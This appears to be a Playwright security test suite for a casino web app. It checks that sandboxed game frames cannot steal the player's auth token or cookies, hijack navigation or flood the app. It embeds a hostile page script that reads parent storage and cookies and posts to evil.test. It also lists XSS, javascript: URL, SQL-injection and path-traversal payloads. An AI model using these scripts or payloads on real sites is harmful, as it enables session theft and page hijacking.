import type { Dialog, Page } from 'playwright/test';
import { encodeGame } from '../../src/features/casino/game-address.ts';
import { test as base, expect } from '../support/browser-test.ts';
import { silencePopup } from '../support/operate.ts';
import { enterAsNewPlayer } from '../support/page-player.ts';
import { frameOf, gamesOfSystems, laleDevri, playPath, say } from '../support/play-game.ts';
import { runServer } from '../support/running-server.ts';
import { slowWaits } from '../support/slow-waits.ts';
import { type StrangerSite, startStrangerSite } from '../support/stranger-site.ts';

/** The worst provider: it tries what must not work, records the outcomes, and keeps running as a game. */
const HOSTILE_PAGE = `<!doctype html><meta charset="utf-8"><title>game</title>
  <h1>game</h1><output id="tried"></output><output id="turns">0</output>
  <button id="pop">pop</button>
  <script>
    const tried = {};
    const attempt = (name, act) => {
      try { tried[name] = act() ?? 'nothing'; } catch { tried[name] = 'refused'; }
    };
    attempt('storage', () => parent.localStorage.getItem('authData'));
    attempt('document', () => parent.document.body.innerHTML);
    attempt('cookie of the app', () => parent.document.cookie);
    attempt('frames of the app', () => top.frames[0].document.body.innerHTML === document.body.innerHTML ? 'nothing' : 'read');
    attempt('domain', () => { document.domain = 'localhost'; });
    attempt('top', () => { top.location.href = 'https://evil.test/top'; });
    attempt('top again', () => top.location.replace('https://evil.test/replace'));
    attempt('top by name', () => { open('https://evil.test/named', '_top'); });
    attempt('alert', () => { alert('from the game'); });
    attempt('confirm', () => (confirm('from the game') ? 'agreed' : 'nothing'));
    attempt('prompt', () => prompt('from the game') ?? 'nothing');
    attempt('print', () => { print(); });
    addEventListener('beforeunload', (event) => { event.preventDefault(); event.returnValue = 'stay'; });
    for (let count = 0; count < 20; count += 1) history.pushState(null, '', '#' + count);
    document.getElementById('pop').onclick = () => {
      const popup = open('about:blank');
      if (!popup) return;
      popup.document.write('<script>try { opener.top.location.href = "https://evil.test/by-popup"; } catch {} opener.top.postMessage({ type: "close" }, "*");<\\/script>');
    };
    document.getElementById('tried').textContent = JSON.stringify(tried);
    let turns = 0;
    setInterval(() => { document.getElementById('turns').textContent = String(turns += 1); }, 50);
  </script>`;
const REFUSED_OR_NOTHING = /^(?:refused|nothing)$/;

interface World {
  /** The provider of all games. */
  hostile: StrangerSite;
  /** A site that may be framed but provides none of the games. */
  other: StrangerSite;
}

/** Games come from a hostile provider that the operator has named; the console errors it causes are not ours. */
const test = base.extend<{ stolen: string[]; watchErrors: undefined }, { world: World }>({
  world: [
    async ({}, use) => {
      const [hostile, other] = await Promise.all([startStrangerSite(HOSTILE_PAGE), startStrangerSite('<!doctype html><title>other</title><h1>other</h1>')]);
      await use({ hostile, other });
      await Promise.all([hostile.close(), other.close()]);
    },
    { scope: 'worker' },
  ],
  server: [
    async ({ world }, use) => {
      const server = await runServer({ RATE_LIMITS: 'off', SANDBOX: 'off', SANDBOX_URL: world.hostile.origin, PROVIDER_ORIGINS: world.other.origin });
      await silencePopup(server);
      await use(server);
      await server.stop();
      await server.remove();
    },
    { scope: 'worker', timeout: slowWaits.serverStart },
  ],
  watchErrors: async ({}, use) => use(undefined),
  /** Collects everything that a game must not bring about. */
  stolen: async ({ context }, use) => {
    const stolen: string[] = [];
    await context.route(/evil\.test/, (route) => {
      stolen.push(route.request().url());
      return route.abort();
    });
    const note = async (dialog: Dialog) => {
      stolen.push(dialog.message());
      await dialog.dismiss();
    };
    context.on('page', (page) => void page.on('dialog', note));
    for (const page of context.pages()) page.on('dialog', note);
    await use(stolen);
  },
});
test.use({ viewport: { width: 1440, height: 900 }, serviceWorkers: 'block' });

const [, , , , , , softgamings] = gamesOfSystems;
const titleOf = (page: Page) => page.locator('#game-name');
const launchesOf = (page: Page) => {
  const launches: string[] = [];
  page.on('request', (request) => /launchurl$/.test(request.url()) && launches.push(request.url()));
  return launches;
};

/** Waits until the game in the frame advances by itself, which shows that it runs. */
async function expectRunning(page: Page, title: string): Promise<void> {
  const turns = page.frameLocator(`iframe[title="${title}"]`).locator('#turns');
  const before = Number(await turns.textContent());
  await expect.poll(async () => Number(await turns.textContent())).toBeGreaterThan(before);
}

test('a hostile game page cannot read the app, navigate it or open dialogs, and keeps running', async ({ page, server, context, stolen }) => {
  await enterAsNewPlayer(page, server, playPath(laleDevri));
  const game = page.frameLocator('iframe[title="Lale Devri"]');
  await expect(game.locator('#tried')).toHaveText(/\{/);
  const tried = JSON.parse((await game.locator('#tried').textContent()) ?? '') as Record<string, string>;
  expect(Object.keys(tried)).toHaveLength(12);
  for (const [what, became] of Object.entries(tried)) expect(became, what).toMatch(REFUSED_OR_NOTHING);
  await expectRunning(page, 'Lale Devri');
  const opened = context.waitForEvent('page');
  await game.locator('#pop').click();
  await (await opened).waitForLoadState();
  await expectRunning(page, 'Lale Devri');
  await expect(titleOf(page)).toHaveText('Lale Devri');
  expect(new URL(page.url()).pathname).toBe(playPath(laleDevri));
  expect(await page.evaluate(() => localStorage.getItem('authData'))).toContain('token');
  expect(stolen).toEqual([]);
});

test('a game that fills the history does not trap the player: the close button leads out', async ({ page, server }) => {
  await enterAsNewPlayer(page, server, '/casino/slot');
  await page.goto(playPath(laleDevri));
  await expectRunning(page, 'Lale Devri');
  await page.getByRole('button', { name: 'Oyunu kapat' }).click();
  await expect(page).toHaveURL(/\/casino\/slot$/);
  await expect(page.locator('iframe')).toHaveCount(0);
});

test("[R4.066] only messages from the frame's own window and the provider's origin are handled", async ({ page, server, world }) => {
  const launches = launchesOf(page);
  await enterAsNewPlayer(page, server, playPath(laleDevri));
  await expectRunning(page, 'Lale Devri');
  const frame = await frameOf(page, 'Lale Devri');
  // From the app's own window, from an opened window, and from a frame inside the game.
  await page.evaluate(() => {
    for (const type of ['reload', 'close', 'back-to-lobby', 'round-started']) window.postMessage({ type }, '*');
  });
  const popup = page.waitForEvent('popup');
  await page.evaluate((address) => void window.open(address), world.other.origin);
  expect(await (await popup).evaluate(() => opener)).toBeNull();
  const nested = page.waitForEvent('frameattached');
  await frame.evaluate((address) => {
    const inner = document.createElement('iframe');
    inner.src = address;
    document.body.append(inner);
  }, world.other.origin);
  const inner = await nested;
  await inner.waitForURL(`${world.other.origin}/`);
  await inner.evaluate(() => {
    for (const type of ['reload', 'close', 'back-to-lobby']) top?.postMessage({ type }, '*');
  });
  // From the right window, in an invalid shape.
  for (const message of ['close', null, 7, ['close'], { type: 'open' }, { type: ['close'] }, { type: { toString: 'close' } }, { Type: 'close' }])
    await say(page, 'Lale Devri', message);
  await expectRunning(page, 'Lale Devri');
  expect(launches).toHaveLength(1);
  await expect(titleOf(page)).toHaveText('Lale Devri');
  // From the right window, after it has navigated to an origin that is not the provider's.
  await frame.evaluate((address) => location.assign(address), world.other.origin);
  await expect(page.frameLocator('iframe[title="Lale Devri"]').getByRole('heading', { name: 'other' })).toBeVisible();
  for (const type of ['reload', 'close', 'back-to-lobby', 'round-started']) await say(page, 'Lale Devri', { type });
  await page.getByRole('button', { name: 'Oyunu yeniden yükle' }).click();
  await expectRunning(page, 'Lale Devri');
  expect(launches).toHaveLength(2);
});

test('a flood of a thousand messages a second neither freezes the app nor loads the game more than once', async ({ page, server }) => {
  const launches = launchesOf(page);
  await enterAsNewPlayer(page, server, playPath(laleDevri));
  await expectRunning(page, 'Lale Devri');
  const gaps = page.evaluate(
    () =>
      new Promise<number>((resolve) => {
        let [last, longest, count] = [performance.now(), 0, 0];
        const timer = setInterval(() => {
          longest = Math.max(longest, performance.now() - last);
          last = performance.now();
          count += 1;
          if (count < 60) return;
          clearInterval(timer);
          resolve(longest);
        }, 50);
      }),
  );
  const frame = await frameOf(page, 'Lale Devri');
  await frame.evaluate(
    () =>
      void setInterval(() => {
        for (let count = 0; count < 50; count += 1) parent.postMessage({ type: count % 2 ? 'reload' : 'round-started', ballast: 'x'.repeat(1_000) }, '*');
      }, 50),
  );
  expect(await gaps).toBeLessThan(1_000);
  await expectRunning(page, 'Lale Devri');
  expect(launches.length).toBeLessThanOrEqual(2);
});

/** Makes the softgamings launch return this HTML, as its provider would. */
const answerHtml = (page: Page, html: string) =>
  page.route('**/api/casino/softgamingslaunchurl', (route) => route.fulfill({ json: { success: true, message: null, data: html } }));

test("[R2.174] a provider's HTML runs without an origin: it reaches neither the app nor storage of its own, and loads only from the named origins", async ({
  page,
  server,
  world,
  stolen,
}) => {
  const further = `<img src="https://evil.test/picture.png" alt=""><iframe id="inner" src="${world.other.origin}/inner"></iframe>
    <script>attempt('own storage', () => localStorage.length); attempt('own cookie', () => document.cookie);
    fetch('https://evil.test/stolen', { method: 'POST', body: 'x' }).catch(() => {});
    for (let count = 0; count < 1000; count += 1) parent.postMessage({ type: 'provider-frame-ready' }, '*');
    parent.postMessage({ type: 'provider-html', html: '<script>alert(1)<\\/script>' }, '*');
    document.getElementById('tried').textContent = JSON.stringify(tried);</script>`;
  await answerHtml(page, HOSTILE_PAGE + further + '<p>uzun</p>'.repeat(100_000));
  await enterAsNewPlayer(page, server, playPath(softgamings));
  const game = page.frameLocator('iframe[title="Yıldırım"]');
  await expect(game.locator('#tried')).toHaveText(/own cookie/);
  const tried = JSON.parse((await game.locator('#tried').textContent()) ?? '') as Record<string, string>;
  for (const [what, became] of Object.entries(tried)) expect(became, what).toMatch(REFUSED_OR_NOTHING);
  expect([tried['own storage'], tried['own cookie']]).toEqual(['refused', 'refused']);
  await expect(page.locator('iframe[title="Yıldırım"]')).toHaveAttribute('sandbox', 'allow-scripts allow-forms allow-popups');
  await expectRunning(page, 'Yıldırım');
  await expect(game.frameLocator('#inner').getByRole('heading', { name: 'other' })).toBeVisible();
  await expect(titleOf(page)).toHaveText('Yıldırım');
  expect(stolen).toEqual([]);
});

test("a provider's address that is this site's own, or not a web address, is not shown", async ({ page, server, stolen }) => {
  await enterAsNewPlayer(page, server, '/');
  for (const address of [server.url, `${server.url}casino/slot`, 'javascript:alert(1)', 'data:text/html,<script>alert(1)</script>', '//evil.test', '', 'x']) {
    await page.route('**/api/casino/pragmaticlaunchurl', (route) => route.fulfill({ json: { success: true, message: null, data: address } }));
    await page.goto(playPath(laleDevri));
    await expect(page.getByRole('heading', { name: 'Oyun açılamadı' }), address).toBeVisible();
    await expect(page.locator('iframe')).toHaveCount(0);
    await page.unroute('**/api/casino/pragmaticlaunchurl');
  }
  expect(stolen).toEqual([]);
});

const bytes = (text: string) => encodeURIComponent(text);
const HOSTILE_ADDRESSES = [
  'x',
  '____',
  'YWJj',
  '%00',
  '%25%25',
  '..%2F..%2Fadmin',
  'A'.repeat(301),
  'A'.repeat(5_000),
  bytes('<img src=x onerror=alert(1)>'),
  bytes('"><script>alert(1)</script>'),
  bytes('javascript:alert(1)'),
  bytes('{{7*7}}'),
  bytes('😀'),
  encodeGame('pragmatic', '<img src=x onerror=alert(1)>'),
  encodeGame('<script>alert(1)</script>', '1632'),
  encodeGame('pragmatic', "1632' OR '1'='1"),
  encodeGame('pragmatic', '../operator'),
  encodeGame('__proto__', 'constructor'),
  encodeGame('constructor', '1632'),
  encodeGame('hub88', '1632'),
  encodeGame('pragmatic', '1632\u0000'),
  encodeGame('pragmatic', '9'.repeat(150)),
];

test('[R2.024] an address that is malformed or names no game launches nothing and adds nothing to the page', async ({ page, server, stolen }) => {
  const launches = launchesOf(page);
  await enterAsNewPlayer(page, server, '/');
  for (const address of HOSTILE_ADDRESSES) {
    await page.goto(`/casino/play/${address}`);
    await expect(page.getByRole('heading', { level: 1, name: /Bu oyun bulunamadı|Sayfa bulunamadı|Oyun açılamadı/ }), address.slice(0, 60)).toBeVisible();
    expect(await page.locator('main img[src="x"], iframe').count()).toBe(0);
  }
  expect(launches).toEqual([]);
  expect(stolen).toEqual([]);
});
